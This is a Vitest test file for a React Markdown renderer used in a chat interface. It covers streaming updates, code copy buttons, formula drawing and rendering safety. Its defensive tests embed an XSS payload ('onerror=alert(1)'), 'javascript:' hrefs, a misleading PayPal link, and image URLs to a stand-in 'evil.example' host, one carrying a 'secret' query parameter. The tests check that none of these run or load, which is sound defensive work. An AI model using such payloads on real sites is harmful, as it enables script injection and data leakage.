// @vitest-environment happy-dom
import './setup.ts';
import { act } from 'react';
import { createRoot, type Root } from 'react-dom/client';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from '../../../components/markdown/markdown.tsx';
import { createGrowingText, type GrowingText } from '../../../utils/chat/live-parts.ts';
import { GFM_SAMPLES } from './gfm-samples.ts';

// happy-dom does not say which mode a page is in, and Temml refuses to draw in quirks mode.
Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' });

let host: HTMLElement;
let root: Root;

beforeEach(() => {
	vi.stubGlobal('IS_REACT_ACT_ENVIRONMENT', true);
	host = document.body.appendChild(document.createElement('main'));
	root = createRoot(host);
});

afterEach(() => {
	act(() => root.unmount());
	host.remove();
	vi.unstubAllGlobals();
});

function draw(text: GrowingText, isFinal: boolean) {
	act(() => root.render(<Markdown text={text} isFinal={isFinal} />));
}

/** Appends, and waits for the frame that draws it. */
async function append(text: GrowingText, piece: string) {
	await act(async () => {
		text.append(piece);
		await new Promise((resolve) => requestAnimationFrame(resolve));
	});
}

function find(selector: string): Element {
	const found = host.querySelector(selector);
	if (!found) throw new Error(`Nothing matches ${selector} in ${host.innerHTML}`);
	return found;
}

describe('while a text grows', () => {
	it('draws the first words with the append itself', async () => {
		const text = createGrowingText();
		draw(text, false);
		vi.stubGlobal('requestAnimationFrame', () => {
			throw new Error('The first words must not wait for a frame.');
		});
		await act(async () => text.append('Hello'));
		expect(host.textContent).toBe('Hello');
	});

	it('keeps the elements that stand when their section is full and the next one begins', async () => {
		const paragraphs = (count: number) => 'A paragraph.\n\n'.repeat(count);
		const text = createGrowingText(paragraphs(250));
		draw(text, false);
		await vi.waitFor(() => expect(host.querySelectorAll('p')).toHaveLength(250));
		const before = [...host.querySelectorAll('p')];
		expect(host.querySelectorAll('.md-section')).toHaveLength(1);
		await append(text, paragraphs(10));
		expect(host.querySelectorAll('.md-section')).toHaveLength(2);
		const after = [...host.querySelectorAll('p')];
		expect(after).toHaveLength(260);
		for (const [index, element] of before.entries()) expect(after[index]).toBe(element);
	});

	it('keeps the elements that stand, and the text that grows', async () => {
		const text = createGrowingText('# Title\n\nSome');
		draw(text, false);
		const [heading, words] = [find('h3'), find('p').firstChild];
		await append(text, ' more words');
		expect(find('h3')).toBe(heading);
		expect(find('p').firstChild).toBe(words);
		expect(words?.textContent).toBe('Some more words');
	});

	it('keeps every element when it becomes final', async () => {
		const text = createGrowingText();
		draw(text, false);
		await append(text, '# Title\n\nText\n\n- a\n- b\n\n```ts\nlet x = 1;\n```\n\n| a |\n|---|\n| b |\n');
		const before = [...host.querySelectorAll('*')];
		draw(text, true);
		expect([...host.querySelectorAll('*')]).toEqual(before);
	});

	it('makes hardly more nodes than there are at the end', async () => {
		const text = createGrowingText();
		draw(text, false);
		let added = 0;
		const sizeOf = (node: Node): number =>
			1 + [...node.childNodes].reduce((sum, child) => sum + sizeOf(child), 0);
		const observer = new MutationObserver((records) => {
			for (const { addedNodes } of records) for (const node of addedNodes) added += sizeOf(node);
		});
		observer.observe(host, { childList: true, subtree: true });
		const source =
			'## Part\n\nSome **bold** words, `code`, and more of them.\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n'.repeat(
				4,
			);
		for (let at = 0; at < source.length; at += 8) await append(text, source.slice(at, at + 8));
		draw(text, true);
		observer.disconnect();
		expect(added / (sizeOf(host) - 1)).toBeLessThan(1.1);
	});
});

describe('a page with an answer on it', () => {
	it('opens links elsewhere, and tells them nothing', () => {
		draw(createGrowingText('[a](https://example.org "title")'), true);
		const link = find('a');
		expect(link.getAttribute('target')).toBe('_blank');
		expect(link.getAttribute('rel')).toBe('noopener noreferrer');
	});

	it('shows where a misleading link leads', () => {
		draw(createGrowingText('[paypal.com](https://evil.example/x)'), true);
		expect(find('bdi').textContent).toContain('evil.example');
	});

	it('gives every block a direction of its own', () => {
		draw(createGrowingText('שלום\n\n# hello\n\n- مرحبا\n'), true);
		expect([...host.querySelectorAll('p, h3, ul, li')].map((element) => element.getAttribute('dir'))).toEqual(
			['auto', 'auto', 'auto', 'auto'],
		);
	});

	it('loads nothing by itself and runs nothing', () => {
		draw(
			createGrowingText(
				`${GFM_SAMPLES.join('\n\n')}\n\n![x](https://evil.example/?q=secret)\n\n<img src=x onerror=alert(1)>`,
			),
			true,
		);
		expect(
			host.querySelector('img, script, iframe, object, embed, link, style, svg, video, audio'),
		).toBeNull();
	});
});

describe('code', () => {
	it('is copied by its own button, without the last line end', async () => {
		const writeText = vi.fn().mockResolvedValue(undefined);
		vi.stubGlobal('navigator', { clipboard: { writeText } });
		draw(createGrowingText('```js\nlet a = 1;\nlet b;\n```\n'), true);
		await act(async () => find('button').dispatchEvent(new MouseEvent('click', { bubbles: true })));
		expect(writeText).toHaveBeenCalledWith('let a = 1;\nlet b;');
		expect(find('button').textContent).toBe('markdown.codeCopied');
	});

	it('is copied with the fences inside of it (case 99)', async () => {
		const writeText = vi.fn().mockResolvedValue(undefined);
		vi.stubGlobal('navigator', { clipboard: { writeText } });
		const code = '# T\n\n```sh\nnpm i\n```\n\n## Usage';
		draw(createGrowingText(`\`\`\`markdown\n${code}\n\`\`\`\n\nAfter.`), true);
		await act(async () => find('button').dispatchEvent(new MouseEvent('click', { bubbles: true })));
		expect(writeText).toHaveBeenCalledWith(code);
		expect(host.querySelectorAll('button, h4')).toHaveLength(1);
	});

	it('says so when it could not be copied', async () => {
		vi.stubGlobal('navigator', { clipboard: { writeText: () => Promise.reject(new Error('denied')) } });
		draw(createGrowingText('    code\n'), true);
		await act(async () => find('button').dispatchEvent(new MouseEvent('click', { bubbles: true })));
		expect(find('button').textContent).toBe('markdown.copyFailed');
	});
});

describe('a formula', () => {
	it('is its source while the text may still change it, and drawn after that', async () => {
		const text = createGrowingText('So $x^2$');
		draw(text, false);
		expect(find('.md-math').textContent).toBe('$x^2$');
		draw(text, true);
		await vi.waitFor(() => expect(host.querySelector('msup')).not.toBeNull());
		// The source goes with React's next drawing, after the formula has come.
		await vi.waitFor(() => expect(find('.md-math').textContent).toBe('x2'));
	});

	it('takes the place of its source in one step: never are both there, nor neither', async () => {
		const text = createGrowingText('So $x^2$');
		draw(text, false);
		const seen = [find('.md-math').textContent];
		const observer = new MutationObserver(() => seen.push(find('.md-math').textContent));
		observer.observe(host, { childList: true, subtree: true });
		draw(text, true);
		await vi.waitFor(() => expect(host.querySelector('msup')).not.toBeNull());
		draw(createGrowingText('So $y^3$'), true);
		await vi.waitFor(() => expect(host.querySelector('msup')?.textContent).toBe('y3'));
		observer.disconnect();
		expect(new Set(seen)).toEqual(new Set(['$x^2$', 'x2', '$y^3$', 'y3']));
	});

	it.each([
		'\\frac{',
		'\\href{javascript:alert(1)}{x}',
		'\\includegraphics{https://evil.example/x.png}',
		'\\style{color:red}{x}',
	])('that cannot be drawn, or must not, stays its source: %s', async (tex) => {
		const warn = vi.spyOn(console, 'warn').mockReturnValue(undefined);
		draw(createGrowingText(`$$${tex}$$`), true);
		await vi.waitFor(() => expect(warn).toHaveBeenCalled());
		expect(find('.md-math').textContent).toBe(`$$${tex}$$`);
		expect(host.querySelector('a, img, math')).toBeNull();
	});
});
